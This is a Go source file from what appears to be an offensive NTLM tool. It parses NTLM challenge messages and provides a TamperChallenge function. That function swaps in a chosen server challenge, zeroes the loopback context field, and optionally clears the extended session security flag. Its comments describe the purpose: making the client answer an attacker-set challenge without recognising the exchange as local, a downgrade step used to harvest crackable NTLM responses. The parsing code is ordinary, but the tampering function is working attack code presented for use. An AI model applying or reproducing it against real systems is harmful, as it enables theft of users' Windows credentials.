package ntlm

import (
	"fmt"

	"github.com/ineffectivecoder/gomonologue/internal/encoding"
)

// Fixed CHALLENGE_MESSAGE offsets rewritten by TamperChallenge
const (
	challengeFlagsByte    = 22 // third byte of NegotiateFlags, holds the ESS bit
	challengeServerOffset = 24 // ServerChallenge, 8 bytes
	challengeContextStart = 32 // Reserved/context field, 16 bytes
	challengeContextEnd   = 48

	// MinChallengeLength is the shortest challenge token TamperChallenge accepts
	MinChallengeLength = challengeContextEnd

	// essClearMask clears NTLMSSP_NEGOTIATE_EXTENDED_SESSIONSECURITY (0x00080000) in byte 22
	essClearMask = 0xF7
)

// ChallengeMessage is a decoded CHALLENGE_MESSAGE (type 2)
type ChallengeMessage struct {
	TargetNameFields SecurityBuffer
	NegotiateFlags   uint32
	ServerChallenge  [8]byte
	Context          [8]byte // first half of the reserved field; non-zero on loopback
	TargetInfoFields SecurityBuffer
	Version          VersionInfo
	TargetName       []byte
	AvPairs          []AvPair
}

// ParseChallengeMessage decodes a CHALLENGE_MESSAGE. Payload fields that
// point outside data are left empty.
func ParseChallengeMessage(data []byte) (*ChallengeMessage, error) {
	if len(data) < challengeContextStart {
		return nil, fmt.Errorf("%w: %d bytes", ErrChallengeTooShort, len(data))
	}
	if err := checkHeader(data, NtLmChallenge); err != nil {
		return nil, err
	}

	m := &ChallengeMessage{
		TargetNameFields: readSecurityBuffer(data, 12),
		NegotiateFlags:   encoding.Uint32LE(data[20:24]),
	}
	copy(m.ServerChallenge[:], data[challengeServerOffset:])

	if len(data) >= 40 {
		copy(m.Context[:], data[challengeContextStart:])
	}
	if len(data) >= 48 {
		m.TargetInfoFields = readSecurityBuffer(data, 40)
	}
	if len(data) >= 56 && m.NegotiateFlags&NtlmsspNegotiateVersion != 0 {
		m.Version = parseVersion(data[48:56])
	}

	if b, err := payload(data, "TargetName", m.TargetNameFields); err == nil {
		m.TargetName = b
	}
	if b, err := payload(data, "TargetInfo", m.TargetInfoFields); err == nil {
		m.AvPairs = ParseAvPairs(b)
	}

	return m, nil
}

// Target returns the target name, UTF-16LE decoded
func (m *ChallengeMessage) Target() string {
	return encoding.TrimTerminators(encoding.FromUTF16LE(m.TargetName))
}

// AvString returns the UTF-16LE text of the first pair with id, or "".
func (m *ChallengeMessage) AvString(id uint16) string {
	for _, p := range m.AvPairs {
		if p.AvID == id {
			return encoding.FromUTF16LE(p.Value)
		}
	}
	return ""
}

// TamperChallenge returns a copy of a CHALLENGE_MESSAGE rewritten so the client
// answers the given server challenge and does not recognise the exchange as local:
// the ServerChallenge is replaced, the 16-byte context field that marks a loopback
// handshake is zeroed, and, when disableESS is set, the extended session security
// flag is cleared.
func TamperChallenge(msg []byte, challenge [8]byte, disableESS bool) ([]byte, error) {
	if len(msg) < MinChallengeLength {
		return nil, fmt.Errorf("%w: %d bytes, need %d", ErrChallengeTooShort, len(msg), MinChallengeLength)
	}

	out := make([]byte, len(msg))
	copy(out, msg)

	if disableESS {
		out[challengeFlagsByte] &= essClearMask
	}

	copy(out[challengeServerOffset:challengeServerOffset+8], challenge[:])

	for i := challengeContextStart; i < challengeContextEnd; i++ {
		out[i] = 0
	}

	return out, nil
}
